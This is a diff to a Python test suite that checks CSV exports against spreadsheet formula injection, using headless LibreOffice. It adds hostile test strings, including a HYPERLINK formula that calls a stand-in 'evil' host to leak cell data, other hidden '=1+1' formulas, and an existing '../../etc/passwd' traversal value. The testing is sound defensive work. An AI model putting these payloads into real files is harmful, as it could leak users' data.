@@ -42,7 +42,8 @@ HOSTILE = [
     *("<r>raw</r>", "../../etc/passwd", "C:\\temp\\x", 'say "x", twice', "a,b;c", "007"),
     *("0012345678901234567", "1E5", "NA", "nan", "TRUE", "2-3", "MAR1", "\u202eright to left"),
     *("zero\u200bwidth", "Ünïcode-β", "\U0001f9ea", "_x000D_", "$$$$", ">  <score>"),
-    *("{{ 7 * 7 }}", "  padded  "),
+    *("{{ 7 * 7 }}", "  padded  ", "x;=1+1;", 'a;=HYPERLINK("http://evil/"&A1);', "\0=1+1"),
+    *("b\t=1+1\tc", "d|=1+1|e", "f\n=1+1", 'g;"=1+1&"', "\x0b\x1b;\x01=1+1;", "h,=1+1,", "\u2400"),
 ]
 """Ids of as many inhibitors; the name of each is the id of the one before it."""
 OWN_IDS = 8
@@ -181,6 +182,7 @@ def hits_of(folder: Path) -> Cells:
 def one_line(text: str) -> str:
     """A text as an SD file holds it, which cannot hold every text."""
     line = " ".join(text.splitlines()).replace("$$$$", "$$$ $")
+    line = "".join(chr(0x2400 + ord(c)) if c < " " and c != "\t" else c for c in line)
     return f" {line}" if line.startswith(">") else line
 
 
@@ -374,3 +376,36 @@ def test_an_office_shows_ids_as_texts(runs: Runs, tmp_path: Path) -> None:
                 assert one_kind_of_line_break(rule(row[column])) == one_kind_of_line_break(
                     hit[column]
                 )
+
+
+def formulas(folder: Path, out: Path, separators: str) -> dict[str, int]:
+    """Cells that an office would compute, by file, if it parts cells at these characters.
+
+    separators: their code points, as the office's filter takes them: ``44/59`` is comma and ``;``.
+    """
+    assert OFFICE is not None
+    profile = f"-env:UserInstallation={(out / 'profile').as_uri()}"
+    command = [OFFICE, profile, "--headless", f"--infilter=CSV:{separators},34,76,1"]
+    command += ["--convert-to", "xlsx", "--outdir", str(out)]
+    files = sorted(folder.rglob("*.csv"))
+    subprocess.run([*command, *files], check=True, capture_output=True, timeout=250)
+    found = {}
+    for file in files:
+        sheet = openpyxl.load_workbook(out / f"{file.stem}.xlsx").active
+        assert sheet is not None
+        found[file.name] = sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    return found
+
+
+@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not on this machine")
+@pytest.mark.parametrize("separators", ["44", "59", "9", "124", "44/59/9", "44/59/9/124"])
+def test_no_text_becomes_a_formula_wherever_an_office_parts_cells(
+    runs: Runs, separators: str, tmp_path: Path
+) -> None:
+    (tmp_path / "raw").mkdir()
+    with (tmp_path / "raw/raw.csv").open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([at, text] for at, text in enumerate(HOSTILE))
+    assert formulas(tmp_path / "raw", tmp_path, separators)["raw.csv"] > 1, "nothing would run"
+    found = formulas(runs.folders["whole"], tmp_path, separators)
+    assert found.keys() >= {"hits.csv", "rejects.csv", "duplicates.csv", "order.csv", "plates.csv"}
+    assert set(found.values()) == {0}
